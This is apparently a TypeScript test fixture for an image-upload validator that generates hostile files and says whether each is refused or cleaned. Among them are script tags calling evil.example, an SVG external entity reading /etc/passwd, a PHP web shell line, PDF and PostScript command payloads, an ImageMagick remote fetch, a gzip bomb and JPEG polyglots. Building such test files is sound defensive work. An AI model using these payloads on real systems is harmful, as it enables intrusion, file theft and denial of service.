import { gzipSync } from 'node:zlib';
import { picture } from './content.ts';
import { hostileMetadata } from './hostile-metadata.ts';
import { hostileNames } from './hostile-names.ts';
import { hostilePictures } from './hostile-pictures.ts';
import { pngSignature } from './image-bytes.ts';

/** A file that means harm. `mark` is in its bytes or its name and must be in nothing that is kept. */
export interface HostileFile {
  what: string;
  data: Buffer;
  fileName?: string;
  type?: string;
  /**
   * `refused`: 4xx with a sentence. `too large`: that sentence counts its pixels. `clean`: it is a photo
   * in spite of all, and is drawn anew.
   */
  ends: 'refused' | 'too large' | 'clean';
}

export const mark = 'hostile-mark-7731';

/** All of them, made here: nothing is fetched. */
export async function hostileFiles(): Promise<HostileFile[]> {
  const jpeg = await picture('jpeg', 64, 64);
  return [
    ...disguises(),
    ...polyglots(jpeg),
    ...(await hostilePictures()),
    ...(await hostileMetadata()),
    ...hostileNames(jpeg),
  ];
}

/** No photos at all, under the name and type of one. */
function disguises(): HostileFile[] {
  const script = `<script>/* ${mark} */ fetch('https://evil.example')</script>`;
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9">${script}</svg>`;
  const files: [string, string | Buffer][] = [
    ['a page', `<!doctype html><html>${script}</html>`],
    ['an SVG', svg],
    ['an SVG behind an XML declaration', `<?xml version="1.0"?>\n<!-- ${mark} -->\n${svg}`],
    [
      'an SVG that reads a file',
      `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg"><text>&x;${mark}</text></svg>`,
    ],
    ['an SVG, compressed', gzipSync(svg)],
    ['an XML feed', `<?xml version="1.0"?><rss version="2.0"><channel>${mark}</channel></rss>`],
    ['a PHP script', `<?php system($_GET['c']); // ${mark}`],
    ['a shell script', `#!/bin/sh\necho ${mark}\n`],
    ['a PDF', `%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(${mark})>>>>endobj\n%%EOF`],
    ['PostScript', `%!PS-Adobe-3.0 EPSF-3.0\n(%pipe%id) (w) file ${mark}\n`],
    ['a GIF that is a script', `GIF89a/*\x01\x00*/=1;alert('${mark}')`],
    ['a GIF', Buffer.from('R0lGODlhAQABAAAAACH5BAEKAAEALAAAAAABAAEAAAICTAEAOw==', 'base64')],
    [
      'a TIFF',
      Buffer.concat([Buffer.from('II*\0\x08\0\0\0\0\0\0\0\0\0', 'latin1'), Buffer.alloc(64)]),
    ],
    ['a bitmap', Buffer.concat([Buffer.from('BM'), Buffer.alloc(128)])],
    ['an icon', Buffer.concat([Buffer.from([0, 0, 1, 0, 1, 0]), Buffer.alloc(64)])],
    [
      'a JPEG XL',
      Buffer.concat([Buffer.from('0000000c4a584c200d0a870a', 'hex'), Buffer.alloc(32)]),
    ],
    [
      'a JPEG 2000',
      Buffer.concat([Buffer.from('0000000c6a5020200d0a870a', 'hex'), Buffer.alloc(32)]),
    ],
    ['a Photoshop file', Buffer.concat([Buffer.from('8BPS\0\x01', 'latin1'), Buffer.alloc(64)])],
    ['an archive', Buffer.concat([Buffer.from('PK\x03\x04', 'latin1'), Buffer.alloc(64)])],
    ['a bomb of zeros', gzipSync(Buffer.alloc(64 * 1024 * 1024))],
    ['a program of Windows', Buffer.concat([Buffer.from('MZ'), Buffer.alloc(256)])],
    ['a program of Linux', Buffer.concat([Buffer.from('\x7fELF', 'latin1'), Buffer.alloc(256)])],
    ['a film', Buffer.concat([Buffer.from('\0\0\0\x18ftypmp42\0\0\0\0mp42isom', 'latin1')])],
    [
      'a vector picture of the library',
      Buffer.concat([Buffer.from('08f2a6b6', 'hex'), Buffer.alloc(128)]),
    ],
    [
      'a command file of ImageMagick',
      `push graphic-context\nimage over 0,0 0,0 'https://evil.example/${mark}'\n`,
    ],
    ['nothing', Buffer.alloc(0)],
    ['one byte', Buffer.from([0xff])],
    ['zeros', Buffer.alloc(4096)],
    ['a start of JPEG and no more', Buffer.from([0xff, 0xd8, 0xff])],
    ['a signature of PNG and no more', pngSignature],
    ['a page behind a JPEG’s first bytes', `\xff\xd8\xff\xe0<html>${script}`],
    ['a page behind a PNG’s signature', Buffer.concat([pngSignature, Buffer.from(script)])],
    [
      '21 MiB of a JPEG’s first bytes',
      Buffer.alloc(21 * 1024 * 1024, Buffer.from([0xff, 0xd8, 0xff])),
    ],
  ];
  return files.map(([what, data]) => ({
    what,
    data: typeof data === 'string' ? Buffer.from(data, 'latin1') : data,
    ends: 'refused',
  }));
}

/** A whole photo that is something else besides. */
function polyglots(jpeg: Buffer): HostileFile[] {
  const behind = (what: string, tail: string | Buffer): HostileFile => ({
    what,
    data: Buffer.concat([jpeg, typeof tail === 'string' ? Buffer.from(tail) : tail]),
    ends: 'clean',
  });
  const comment = Buffer.from(`*/=1;alert('${mark}');/*`);
  return [
    behind('a JPEG with a page behind it', `<html><script>${mark}</script></html>`),
    behind('a JPEG with PHP behind it', `<?php ${mark} ?>`),
    behind('a JPEG with a PDF behind it', `%PDF-1.7 ${mark} %%EOF`),
    behind('a JPEG with an archive behind it', `PK\x03\x04${mark}`),
    behind('a JPEG with another one behind it', Buffer.concat([Buffer.from(mark), jpeg])),
    {
      what: 'a JPEG with a script in its comment',
      data: Buffer.concat([
        jpeg.subarray(0, 2),
        Buffer.from([0xff, 0xfe, 0, comment.length + 2]),
        comment,
        jpeg.subarray(2),
      ]),
      ends: 'clean',
    },
    {
      what: 'a JPEG that says it is a page',
      data: jpeg,
      fileName: `${mark}.html`,
      type: 'text/html',
      ends: 'clean',
    },
    {
      what: 'a JPEG that says it is an SVG',
      data: jpeg,
      fileName: `${mark}.svg`,
      type: 'image/svg+xml',
      ends: 'clean',
    },
    { what: 'a JPEG of no type', data: jpeg, type: 'x', ends: 'clean' },
  ];
}
